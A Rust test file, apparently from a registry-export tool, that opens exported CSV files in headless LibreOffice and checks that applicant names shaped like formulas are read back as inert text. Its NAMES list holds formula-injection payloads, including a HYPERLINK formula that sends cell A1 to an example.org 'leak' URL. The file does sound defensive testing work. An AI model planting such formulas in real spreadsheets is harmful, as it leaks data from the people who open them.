//! Registry extracts opened as a clerk opens them: LibreOffice Calc itself (headless) imports the
//! CSV with formula evaluation on — as Excel opens a CSV — and the cells are read back from the
//! spreadsheet it saves. An applicant named like a formula must come back as text.

use std::path::{Path, PathBuf};
use std::process::Command;

use quick_xml::Reader;
use quick_xml::XmlVersion;
use quick_xml::events::{BytesStart, Event};

use crate::util::*;

/// A cell of a sheet LibreOffice saved: its formula if it has one, its value type, its text.
#[derive(Debug, Clone, Default, PartialEq)]
struct Cell {
    formula: Option<String>,
    value_type: String,
    text: String,
}

/// LibreOffice's `soffice`, or `None` (said loudly) when it is not installed.
fn soffice() -> Option<PathBuf> {
    let found = std::env::var_os("PATH").and_then(|paths| {
        std::env::split_paths(&paths)
            .map(|dir| dir.join("soffice"))
            .find(|path| path.is_file())
    });
    if found.is_none() {
        eprintln!(
            "SKIPPED: LibreOffice (soffice) is not installed; install it with \
             apt-get install libreoffice-calc-nogui (tests/deps.sh does)"
        );
    }
    found
}

/// Opens `csv` in LibreOffice Calc with `separator` between fields, UTF-8, and formulas
/// evaluated, saves it as a flat OpenDocument spreadsheet and reads its first sheet back.
fn open_in_calc(soffice: &Path, csv: &Path, separator: u8) -> Vec<Vec<Cell>> {
    let work = tempfile::tempdir().unwrap();
    // Separator, text delimiter ("), UTF-8, from line 1, default cell formats, language
    // default, quoted fields not forced to text, special numbers detected — what Calc does
    // when a CSV is opened — and the evaluation of formulas on (token 13).
    let filter = format!("CSV:{separator},34,76,1,,0,false,true,false,false,false,-1,true");
    let output = Command::new(soffice)
        .arg(format!(
            "-env:UserInstallation=file://{}",
            work.path().join("profile").display()
        ))
        .args(["--headless", "--norestore"])
        .arg(format!("--infilter={filter}"))
        .args(["--convert-to", "fods", "--outdir"])
        .arg(work.path())
        .arg(csv)
        .output()
        .expect("soffice runs");
    let saved = work
        .path()
        .join(csv.file_stem().unwrap())
        .with_extension("fods");
    assert!(
        saved.is_file(),
        "LibreOffice did not convert {}: {}{}",
        csv.display(),
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    read_fods(&std::fs::read_to_string(saved).unwrap())
}

/// The rows of the first table of a flat OpenDocument spreadsheet.
fn read_fods(xml: &str) -> Vec<Vec<Cell>> {
    fn attribute(e: &BytesStart<'_>, name: &str) -> Option<String> {
        e.attributes()
            .filter_map(Result::ok)
            .find(|a| a.key.as_ref() == name)
            .map(|a| {
                a.normalized_value(XmlVersion::Implicit1_0)
                    .unwrap()
                    .into_owned()
            })
    }
    fn start(e: &BytesStart<'_>) -> (Cell, usize) {
        let repeat = attribute(e, "table:number-columns-repeated")
            .map_or(1, |n| n.parse::<usize>().unwrap().min(64));
        let cell = Cell {
            formula: attribute(e, "table:formula"),
            value_type: attribute(e, "office:value-type").unwrap_or_default(),
            text: String::new(),
        };
        (cell, repeat)
    }
    let is_cell = |name: &str| name == "table:table-cell" || name == "table:covered-table-cell";
    let mut reader = Reader::from_str(xml);
    let (mut rows, mut row) = (Vec::new(), Vec::new());
    let mut open: Option<(Cell, usize)> = None;
    // Text counts inside a paragraph only: the file is indented between elements.
    let mut in_paragraph = false;
    loop {
        match reader.read_event().unwrap() {
            Event::Start(e) if e.name().as_ref() == "text:p" => {
                if let Some((cell, _)) = &mut open
                    && !cell.text.is_empty()
                {
                    cell.text.push('\n');
                }
                in_paragraph = true;
            }
            Event::End(e) if e.name().as_ref() == "text:p" => in_paragraph = false,
            Event::Start(e) if is_cell(e.name().as_ref()) => open = Some(start(&e)),
            Event::Empty(e) if is_cell(e.name().as_ref()) => {
                let (cell, repeat) = start(&e);
                row.extend(std::iter::repeat_n(cell, repeat));
            }
            Event::End(e) if is_cell(e.name().as_ref()) => {
                if let Some((cell, repeat)) = open.take() {
                    row.extend(std::iter::repeat_n(cell, repeat));
                }
            }
            Event::Empty(e) if in_paragraph && e.name().as_ref() == "text:s" => {
                if let Some((cell, _)) = &mut open {
                    let n = attribute(&e, "text:c").map_or(1, |n| n.parse().unwrap());
                    cell.text.push_str(&" ".repeat(n));
                }
            }
            Event::Text(t) if in_paragraph => {
                if let Some((cell, _)) = &mut open {
                    cell.text.push_str(&t.xml10_content());
                }
            }
            Event::GeneralRef(r) if in_paragraph => {
                if let Some((cell, _)) = &mut open {
                    let name = r.xml10_content().into_owned();
                    cell.text.push_str(match name.as_str() {
                        "amp" => "&",
                        "lt" => "<",
                        "gt" => ">",
                        "quot" => "\"",
                        "apos" => "'",
                        other => panic!("entity &{other};"),
                    });
                }
            }
            Event::End(e) if e.name().as_ref() == "table:table-row" => {
                // Trailing empty cells are the sheet's, not the extract's.
                while row.last().is_some_and(|c: &Cell| *c == Cell::default()) {
                    row.pop();
                }
                rows.push(std::mem::take(&mut row));
            }
            Event::End(e) if e.name().as_ref() == "table:table" => break,
            Event::Eof => break,
            _ => {}
        }
    }
    while rows.last().is_some_and(Vec::is_empty) {
        rows.pop();
    }
    rows
}

#[test]
fn libreoffice_evaluates_a_formula_in_a_plain_csv_so_this_test_can_fail() {
    let Some(soffice) = soffice() else { return };
    let dir = tempfile::tempdir().unwrap();
    let csv = dir.path().join("raw.csv");
    std::fs::write(&csv, "name,n\n=1+1,1\n").unwrap();
    let rows = open_in_calc(&soffice, &csv, b',');
    let cell = &rows[1][0];
    assert_eq!(cell.formula.as_deref(), Some("of:=1+1"), "{rows:?}");
    assert_eq!(cell.text, "2");
}

/// Applicants' names that a spreadsheet would run, as they are written in a case file.
const NAMES: [(&str, &str); 4] = [
    ("F-1", "=1+1"),
    (
        "F-2",
        "=HYPERLINK(\"http://example.org/?leak=\"&amp;A1;\"Ашу\")",
    ),
    ("F-3", "@SUM(1+1)"),
    ("F-4", "-2+3 Медиа"),
];

#[test]
fn an_applicant_named_like_a_formula_reads_back_from_libreoffice_as_text_in_every_mode() {
    let Some(soffice) = soffice() else { return };
    let project = Project::new();
    let cases: Vec<String> = NAMES
        .iter()
        .map(|(id, name)| {
            media_case(id, "2026-11-19", "Формула")
                .replace("«Алаш Медиа» ЖШС", name)
                .replace("ТОО «Алаш Медиа»", name)
        })
        .collect();
    project.write_case("formulas.xml", &cases_file(&cases));
    let run = project.batch(&[]);
    assert_eq!(run.code, 0, "{}", run.stderr);

    for (excel, separator) in [(false, b','), (true, b';')] {
        let name = if excel { "excel.csv" } else { "plain.csv" };
        let mut args = vec!["export", "--registry", "media", "--out", name];
        if excel {
            args.push("--excel");
        }
        let export = project.qujat(&args);
        assert_eq!(export.code, 0, "{}", export.stderr);
        let rows = open_in_calc(&soffice, &project.path().join(name), separator);
        assert_eq!(rows.len(), 1 + NAMES.len(), "{name}: {rows:?}");
        let holder = rows[0]
            .iter()
            .position(|c| c.text.starts_with("Алушы"))
            .expect("a holder column");
        for (row, (id, written)) in rows[1..].iter().zip(NAMES) {
            let shown = written.replace("&amp;", "&");
            let cell = &row[holder];
            assert_eq!(cell.formula, None, "{name}, case {id}: {cell:?}");
            assert_eq!(cell.value_type, "string", "{name}, case {id}: {cell:?}");
            assert_eq!(cell.text, format!("'{shown}"), "{name}, case {id}");
        }
        // The IIN/BIN guard of --excel is a formula of ours whose value is the digits as text
        // (a plain extract is for programs: there Calc reads a number).
        if !excel {
            continue;
        }
        let id = rows[0]
            .iter()
            .position(|c| c.text.starts_with("ЖСН/БСН"))
            .unwrap();
        let cell = &rows[1][id];
        assert_eq!(cell.text, "100440000004", "{name}: {cell:?}");
        assert_eq!(cell.value_type, "string", "{name}: {cell:?}");
    }
}
